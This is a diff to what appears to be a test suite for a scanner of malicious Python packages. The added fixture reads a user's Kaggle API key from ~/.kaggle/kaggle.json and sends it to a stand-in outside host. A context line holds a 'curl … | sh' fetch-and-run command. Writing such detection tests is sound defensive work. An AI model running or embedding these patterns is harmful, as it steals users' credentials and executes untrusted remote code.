@@ -95,6 +95,21 @@ t.test('what looks like it is not', async (t) => {
   }
 })
 
+/** Logs in at a host with the key that its user keeps in a file. */
+function asking(host: string): string {
+  return `import json, os, requests\ndef login():\n    c = json.load(open(os.path.expanduser("~/.kaggle/kaggle.json")))\n    return requests.get("https://${host}/api", headers={"key": c["key"]})\n`
+}
+
+t.test('the key of a service goes to that service, and to no other host', async (t) => {
+  for (const [host, isTold] of [
+    ['www.kaggle.example', false],
+    ['a.keeper.invalid', true],
+  ] as const) {
+    const found = await findings({ 'a/__init__.py': asking(host) })
+    t.equal(found.includes('called-harm high call'), isTold, host)
+  }
+})
+
 t.test('what a wheel puts beside the commands of the machine is a command', async (t) => {
   const script = '#!python\nimport os\nos.system("curl https://a.keeper.invalid/i | sh")\n'
   for (const path of ['a-1.data/scripts/tool', 'a-1.data/scripts/tool.py']) {
